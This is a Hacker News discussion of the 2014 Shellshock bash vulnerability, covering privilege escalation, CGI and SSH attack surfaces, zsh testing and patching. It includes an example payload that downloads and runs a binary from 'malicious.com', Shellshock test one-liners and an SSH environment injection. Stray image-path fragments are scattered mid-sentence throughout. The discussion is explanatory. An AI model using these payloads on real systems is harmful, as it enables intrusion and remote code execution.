None of which is to say there is clearly no such vulnerability - I'd just like to understand it if there is.

Basically, anywhere this vulnerability exists, there is the option to run arbitrary code. That is for example:curl malicious.com/local_privilege_escalation_binary -o /tmp/iwin; iwin
could be the payload. This will download then run a secondary attack binary. Then the attacker wins.

That's true of any code execution vulnerability, though - it seems odd to call out the privilege elevation specifically. If that's all the GP meant, then sure, I fully grok.

I think it comes down to a jargon vs technical language thing. In formal settings arbitrary code execution is a different thing from privilege escalation. In casual jargony talk though, security guys tend to equate code execution with privilege escalation with box ownage.

Basically it goes "why would anyone not follow the execution -> escalation -> own path?" It's such an automatic assumption, combined with the basic premise of "there's no such thing as a secure computer", that the exact details are a hand-wave. This comes from the repeated demonstration that it's almost always true.

None of this seems crazy unlikely, but I'd still like to hear a confirmation that that's what was meant. Especially since korzun was talking specifically about Debian and Ubuntu where bash is only used as a login shell and so presumably those with access could already just run the app.

There are unfortunately lots of bad scripts in the world that start with:

So for example, with a foo.sh script of:

   echo "loser!"
Then for example:

   vagrant@ubuntu-14:~/bin$ X='() { :; }; echo foo' python
   Python 2.7.6 (default, Mar 22 2014, 22:59:56)[GCC 4.8.2] on linux2
   Type "help", "copyright", "credits" or "license" for more information.
   >>> import os
   >>> os.system("./foo.sh")
   >>> import subprocess
   >>> subprocess.Popen("./foo.sh")
   <subprocess.Popen object at 0x7f04a115f350>
   >>> foo
It should be noted that if the shebang is #!/bin/sh this doesn't work when sh == dash, but given that this wiki page exists on ubuntu:


That recommends changing broken scripts to #!/bin/bash or changing to sh == bash as solutions. I would guess that there are going to be plenty of easily vulnerable debian/ubuntu systems.

More importantly though, it literally does not matter if this bug is "directly privilege escalating" or "1 step removed privilege escalating", the are fundamentally the same thing. It doesn't matter in any casewhere a script is executed with bash instead of dash.

'More importantly though, it literally does not matter if this bug is "directly privilege escalating" or "1 step removed privilege escalating", the are fundamentally the same thing. It doesn't matter in any case where a script is executed with bash instead of dash.'

It doesn't matter for security. It matters a lot for my understanding of what's going on.

Most code executions vulnerabilities aren't remotely accessible, which this is, which makes priv-escalation particularly nasty. (eg: incorrectly assuming that since www-data user doesn't have access to anything sensitive, this bug isn't a big deal)

Is it remotely accessible on systems where sh is dash, though? That's specifically what was under discussion.

Yes, potentially - if at any point during the execution of a program (or its descendents) a bash script gets called with an untrusted environment variable value from a remote source. The difference between a system with bash as /bin/sh and a system with dash as /bin/sh is that the bash system is implicitly executing bash all the time, whereas the dash system requires an explicitly-bash script to be executed. So the dash system has many fewer windows of opportunity for an exploit, but they could still bethere.

Well, sure. It seems a slightly odd way to phrase it if that's the entirety of what korzun meant, though. Is there somewhere that happens in a typical out-of-the-box Debian or Ubuntu box?

Privilege escalation is not static.

I know systems where bash has been patched to allow execution by certain users, etc.

With this, you can inject commands before such check takes place.


Hm, so only if bash is chmod or granted capabilities, absent exploiting some other vulnerability? I'd read you as saying more - no worries.

Passing executable code in environment variables is an incredibly bad idea.

The parsing bug is a red herring; there are probably ways to exploit the feature even when it doesn't have the bug.The parsing bug means that the mere act of defining the function in the child bash will execute the attacker's code stored in the environment variable.

But if this problem is closed, the issue remains that the attacker controls the environment variable; the malicious code can be put inside the function body. Even though it will not then be executed at definition time, perhaps some child or grand-child bash can be nevertheless goaded into calling the malicious function.

Basically this is a misfeature that must be rooted out, pardon the pun.

Funny, this works even after bash fix / upgrade

env X='() { (a)=>\' sh -c "echo date"; cat e

From http://seclists.org/oss-sec/2014/q3/672

I replaced "sh" with "bash" in the above, and on my patched system it creates a file called "echo" with the date in it. Can anyone explain how this works? Is it an exploit?

Edit: From my experiments, the name in (a) doesn't matter, and "echo" and "date" can be changed. The thing in echo's position is where the output goes (and can be an absolute path!), and "date" is a command that is run. Still no idea how it works, as I'm not very familiar with shell syntax and Googling symbols like "=>" is mostlyuseless. It may even be meaningless and is just garbage to get bash into a state that causes this to happen?

Edit 2: http://seclists.org/oss-sec/2014/q3/679 has a small example. "Tavis and I spent a fair amount of time trying to figure out if this poses a more immediate risk, but so far, no dice. It strongly suggests that the parser is fragile and that there may be unexpected side effects, though"

I can't comprehend how this got buried so fast in the mist of "patch, patch, patch".

So I took a great unix/linux systems programming class, http://sites.fas.harvard.edu/~lib215/ where youlearn about all of the system software that you take for granted. Among other things, we had to write our own shell. There is an awful lot to consider, and most of it you are just trying to get to work properly. With regard to security, you feel like you are protected for the most part because the shell resides in userland and it's basically understood that you shouldn't trust foreign shell scripts.

Is the worry here that the code gets executed by the kernel or superuser, enabling privilege escalation? Otherwise it wouldn't be a big deal that extra code is executed by a function declaration.

It allows arbitrary code execution if an attacker can modify environment variables through other software.Most webservers put certain HTTP headers in environment variables. I can certainly see the how this could be exploited.

> Most webservers put certain HTTP headers in environment variables.

I legitimately don't understand why they might do such a thing. Can you explain?

They need to pass data into a CGI script somehow.

But a shell will rarely be involved in executing a CGI, unless that CGI itself executes one. And who still uses CGI scripts?

Not to say nobody will be bitten by that, but I don't think that's going to be all that widespread.

Have you ever looked at the backend web interface of some of the most popular residential wifi routers? It's shell script. Why? It's a cheap and accessible interpreted language; no need to clutter up your tiny embedded OS with the huge requirements of php, perl, etc when you have all the tools you need in busybox.

CGI apps execute shell scripts all the time. Even if an app executes an app executes an app executes an app, if that app four layers down runs a shell script, the environment is still passed down. Turtles, dude.

Fortunately they are unlikely to install bash at all on a router.

Routers definitely have shells, it's just a matter of whether it's bash or something else that might also be vulnerable.

Bash is big and bloated, and you already have the busybox sh probably. However apparently some do have bash....

Many people don't realize they use CGI scripts, but a lot of people are going to discover they do today.

It could be a simple one-line script that wraps the real command, setting memory limits and the like first. (I used a similar trick to prevent Skype using up all my memory in the past.)agreed, also Browser User Agent, referrer are all passed by the client and sent to Apache, which pushes them into environment variables.


Another attack surface is OpenSSH through the use of AcceptEnv variables. As well through TERM andSSH_ORIGINAL_COMMAND. An environmental variable with an arbitrary name can carry a nefarious function which can enable network exploitation.

On most systems I've found this works: LC_TIME='() { :;}; echo vulnerable' ssh <hostname>

Not sure of the impact of this, as the user would need to have a remote permissions anyway for the SSH login to occur. But if there was some form of restricted shell that then spawned bash it might potentially create an attack vector.

I was wondering about this too. My thinking was, if a user's laptop is compromised (and has the exploit in LC_TIME, TERM or similar), and the user then SSH in to a server with exploitable bash, the nefarious command will presumably be executed without the user knowing. But of course, if the laptop is compromised that badly, it could probably wreak havoc to the server anyway.

As an example of who might be impacted, since openssh preserves the original command line passed to the ssh server when authenticating a public key that has a fixed command associated in authorized_keys, GitHub and BitBucket security teams are probably both having a really exciting day.

This vulnerability is the kind of reason I would have a stripped-down OpenSSH for public users, if I were them. Hard-code to dowhat they need, don't use configuration files, remove any features not needed. For example, to print the "You've successfully authenticated, but GitHub does not provide shell access." a user gets trying to ssh to github.com, don't invoke anything, print it directly from the SSH server.

Much easier to implement a custom captive shell (default login shell for user) then to mess with the crypto system.

Maybe. Actually, it looks like Github is using libssh, which is along the lines of whatI was thinking, without having to mess with crypto too much, as you say.

This is what Atlassian Stash does.

Amazon's Linux distro for EC2 is still waiting for a patch.

EDIT: Finally got things updated. Bulletin can be found here: https://alas.aws.amazon.com/ALAS-2014-418.html

If yum isn't finding the update, try running "yum clean all" and then "yum update bash"

Still waiting for a fix on Beanstalk. Neither "yum clean all" followed by"yum update bash" nor "yum --releasever=2014.09 update bash" currently work.

EDIT: relevant AWS threads



Should be fixed now:

To manually update EC2 instances managed by Elastic Beanstalk, you can run the following command:

For Amazon Linux 2013.09 "sudo yum install -y http://packages.us-east-1.amazonaws.com/2013.09/updates/556c...

For Amazon Linux 2014.03 "sudo yum install -y http://packages.us-east-1.amazonaws.com/2014.03/updates/e10f...

If yum still doesn't find it, you may be on an older release. Try "yum --releasever=2014.09 update bash"

I'm considering pulling an rpm from elsewhere until they have this in place.

It's updated now

A quick fix would be to stop using bash.

I write hundreds of shell scripts per year and I never, ever use bash. Everything can be done with a less complex /bin/sh having only POSIX-like features.

There's no reason webservers have to use bash by default.

Sysadmins might need a hefty shell will lots of features in order to do their work, but an httpd should not need access to bash-isms. It should work fine with a very minimal POSIX-like shell.

I'm glad the systems I use do not have bash installed by default. The only time I ever use it is when a software author tries to force me to use bash by writing their install scripts in it and using bash-isms so the script will not run with a simpler shell like a BSD /bin/sh.

Maybe I'm doing something wrong, but I just tested it in ZSH (5.0.5, Linux) and the same vulnerable behavior seemsto show up.

How are you testing it? If you're just pasting one of the proof-of-concept lines into zsh, such as this one:

    env x='() { :;}; echo vulnerable' bash -c "echo this is a test"
...then you're really just executing bash. Replace "bash" in the line above with "zsh" and the "vulnerable" line is not printed.

No, it's not printed in your trivial example, but if you replace the simple "echo" command with any bash script, or any executable that calls a bash script, or any executable that invokes another program that calls a bash script, or ... then you're screwed.

Even withthe "zsh", this should print "vulnerable":

  env x='() { :;}; echo vulnerable' zsh -c "bash -c true"
You don't have to use bash explicitly. It might be called by some application or library. For example, if your default shell is a bash, this will work too:

  env x='() { :;}; echo vulnerable' zsh -c "python -c 'import os; os.system(\"true\")'"

Right, the point being that bash is vulnerable, not zsh (as was suggested by the post I was replying to). I'm not claiming that using zsh as your interactive shell somehow makes you immune.

I see this in zsh 5.0.0 on Ubuntu, and on OSX as well! zsh 5.0.2 (x86_64-apple-darwin13.0)I'm not seeing this on zsh 4.3.17. Exactly what did you run to see this?

They probably ran

  env x='() { :;}; echo vulnerable' bash -c "echo this is a test"
but failed to spot that the second command invokes bash not zsh.

My tests suggest thatneither zsh 4.3.17 or 5.0.6 (the versionsthat ship with Debian stable & testing respectively) are vulnerable to this exploit - if you replace bash with zsh in the test oneliner then the code after the end of the function definition in the environment variable is not executed.

That's it, Iam an idiot today. (and more daysprobably)

Applications are open for YC Winter2022

Guidelines | FAQ | Lists | API | Security | Legal | Apply to YC | Contact